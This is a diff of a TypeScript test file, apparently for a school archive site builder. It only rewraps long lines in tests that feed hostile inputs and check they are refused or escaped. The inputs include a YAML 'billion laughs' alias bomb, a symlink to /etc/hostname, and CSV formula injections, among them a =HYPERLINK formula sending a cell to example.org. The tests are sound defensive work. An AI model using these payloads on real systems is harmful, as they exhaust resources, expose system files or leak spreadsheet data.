@@ -87,7 +87,12 @@ describe('unusual input is a content problem in the check and the build alike', 
   test('a "billion laughs" of YAML aliases in front matter, also in check --json', () => {
     const fixture = withOtherMistake();
     const bomb = ['lol: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
-    for (const name of 'bcdefgh') bomb.push(`${name}: &${name} [${Array(9).fill(`*${String.fromCharCode(name.charCodeAt(0) - 1)}`).join(',')}]`);
+    for (const name of 'bcdefgh')
+      bomb.push(
+        `${name}: &${name} [${Array(9)
+          .fill(`*${String.fromCharCode(name.charCodeAt(0) - 1)}`)
+          .join(',')}]`,
+      );
     fixture.replace(SCRATCH_EL, '---\ntitle:', `---\n${bomb.join('\n')}\ntitle:`);
     const { problems, summary } = bothRefuse(fixture);
     const sign = (line: number): ReportedProblem => ({
@@ -147,7 +152,10 @@ describe('unusual input is a content problem in the check and the build alike', 
 
   test('a photo and a link written as file: addresses, which passed unnoticed', () => {
     const fixture = withOtherMistake();
-    fixture.write(SCRATCH_EN, `${fixture.read(SCRATCH_EN)}\n![Our class](file:///C:/Users/teacher/Pictures/class.jpg)\n\nThe [plan](file:///C:/Users/teacher/plan.docx).\n`);
+    fixture.write(
+      SCRATCH_EN,
+      `${fixture.read(SCRATCH_EN)}\n![Our class](file:///C:/Users/teacher/Pictures/class.jpg)\n\nThe [plan](file:///C:/Users/teacher/plan.docx).\n`,
+    );
     assert.deepEqual(bothRefuse(fixture).problems, [
       otherMistake(fixture),
       {
@@ -208,7 +216,8 @@ describe('unusual input is a content problem in the check and the build alike', 
       symlinkSync(path.join(elsewhere.dir, '2011-2012', 'old-project', 'index.el.md'), fixture.abs('2015-2016/linked-file/index.el.md'));
       fixture.removeFile('school.en.md');
       symlinkSync('/etc/hostname', fixture.abs('school.en.md'));
-      const why = 'is a symbolic link (a shortcut to a file or folder elsewhere). The archive does not follow links, so that nothing outside the content folder can be published.';
+      const why =
+        'is a symbolic link (a shortcut to a file or folder elsewhere). The archive does not follow links, so that nothing outside the content folder can be published.';
       const fix = 'Put the file or folder itself here, in place of the link (move or copy it).';
       assert.deepEqual(bothRefuse(fixture).problems, [
         { main: `${fixture.shown('2011-2012')}: "2011-2012" ${why}`, fix },
@@ -233,7 +242,9 @@ describe('unusual input is a content problem in the check and the build alike', 
       const site = path.join(elsewhere.dir, 'site');
       const build = runBuild(['--content', fixture.contentArg, '--output', site]);
       assert.equal(build.status, 0, build.stderr);
-      const row = readFileSync(path.join(site, 'archive.csv'), 'utf8').split('\r\n').find((line) => line.includes(SCRATCH));
+      const row = readFileSync(path.join(site, 'archive.csv'), 'utf8')
+        .split('\r\n')
+        .find((line) => line.includes(SCRATCH));
       assert.ok(row?.startsWith(`2015-2016,${SCRATCH},"'@SUM(1+1)","'=HYPERLINK(""https://example.org/?""&A1, ""Scratch"")",`), row);
     } finally {
       elsewhere.remove();
